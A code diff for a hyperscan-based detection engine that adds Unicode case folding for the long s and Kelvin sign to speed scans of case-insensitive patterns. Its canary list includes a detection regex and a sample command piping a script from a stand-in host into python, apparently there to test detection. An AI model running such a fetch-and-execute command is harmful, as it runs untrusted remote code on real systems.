@@ -19,8 +19,19 @@ import hyperscan
 from sentra.errors import ConfigError, EngineError
 
 UTF8 = "(*UTF8)"
-_FORMAT = f"sentra-2 hyperscan-{version('hyperscan')}"
-_BEYOND_ASCII = re.compile(r"[^\x00-\x7f]|\\x\{(?:0*[89a-fA-F][0-9a-fA-F]|0*[1-9a-fA-F][0-9a-fA-F]{2,})\}|\\x[89a-fA-F]|\\[pP]")
+_FORMAT = f"sentra-3 hyperscan-{version('hyperscan')}"
+_BEYOND_ASCII = re.compile(
+    r"[^\x00-\x7f]|\\x\{(?:0*[89a-fA-F][0-9a-fA-F]|0*[1-9a-fA-F][0-9a-fA-F]{2,})\}|\\x[89a-fA-F]|\\[pP]"
+)
+
+_LONG_S, _KELVIN = "\u017f".encode(), "\u212a".encode()
+_FLAGGED = re.compile(r"\(\?[a-wyz]*i[a-wyz]*\)")
+_REFLAGGED = re.compile(r"\(\?[a-zA-Z]*-|\(\?[a-zA-Z]*[ix][a-zA-Z]*[:)]|\(\?#|\\Q")
+_TOKEN = re.compile(
+    r"\\x\{[0-9a-fA-F]+\}|\\[pP](?:\{[^}]*\}|.)|\\c.|\\.|\[\^?\]?(?:\\.|\[:\w+:\]|[^\]\\])*\]"
+    r"|\(\?[a-zA-Z]*[:)]|\(\?P?<[^>]*>|.",
+    re.DOTALL,
+)
 
 CANARIES: tuple[tuple[str, str], ...] = (
     (r"(?s)curl.*\|\s*python", "curl -s http://drop.example/run.sh | python"),
@@ -57,6 +68,13 @@ class Database:
         """Numbers of the patterns that fire somewhere in ``buffer`` (valid UTF-8), each once, in no given order."""
         if self._database is None or not buffer:
             return []
+        fired = self._scan(buffer)
+        if not buffer.isascii() and (_LONG_S in buffer or _KELVIN in buffer):
+            folded = self._scan(buffer.replace(_LONG_S, b"s").replace(_KELVIN, b"k"))
+            fired = list({*fired, *folded})
+        return fired
+
+    def _scan(self, buffer: bytes) -> list[int]:
         fired = self._fired = []
         self._database.scan(buffer, match_event_handler=self._note)
         return fired
@@ -69,7 +87,7 @@ def _compile(patterns: Sequence[str]) -> Any:
     database = hyperscan.Database(mode=hyperscan.HS_MODE_BLOCK)
     try:
         database.compile(
-            expressions=[ascii_pattern(pattern) for pattern in patterns],
+            expressions=[engine_pattern(pattern) for pattern in patterns],
             ids=list(range(len(patterns))),
             elements=len(patterns),
             flags=[_flags(pattern) for pattern in patterns],
@@ -89,7 +107,7 @@ def refusal(pattern: str) -> str | None:
     """Why the engine refuses ``pattern``; nothing when it accepts it."""
     database = hyperscan.Database(mode=hyperscan.HS_MODE_BLOCK)
     try:
-        database.compile(expressions=[ascii_pattern(pattern)], ids=[0], elements=1, flags=_flags(pattern))
+        database.compile(expressions=[engine_pattern(pattern)], ids=[0], elements=1, flags=_flags(pattern))
     except hyperscan.error as error:
         return str(error)
     return None
@@ -107,6 +125,25 @@ def is_utf8(pattern: str) -> bool:
 def _flags(pattern: str) -> int:
     flags: int = hyperscan.HS_FLAG_SINGLEMATCH | (hyperscan.HS_FLAG_UTF8 if is_utf8(pattern) else 0)
     return flags
+
+
+def engine_pattern(pattern: str) -> bytes:
+    """``pattern`` as the engine compiles it."""
+    return ascii_pattern(plain_folding(pattern) if is_utf8(pattern) else pattern)
+
+
+def plain_folding(pattern: str) -> str:
+    """``pattern``, where it ignores case, with every ``s`` and ``k`` of ASCII alone: no U+017F and no U+212A.
+
+    Those two characters are the same letters in another case. With them ``password`` is no literal to the engine, and
+    literals are what makes it fast; ``Database.scan`` puts them back by scanning such texts once more, folded.
+    """
+    pattern = pattern.removeprefix(UTF8)
+    flagged = _FLAGGED.match(pattern)
+    if flagged is None or _REFLAGGED.search(pattern, flagged.end()):
+        return pattern
+    tokens = _TOKEN.findall(pattern, flagged.end())
+    return flagged[0] + "".join(f"(?-i:[{t.lower()}{t.upper()}])" if t in "sSkK" else t for t in tokens)
 
 
 def ascii_pattern(pattern: str) -> bytes:
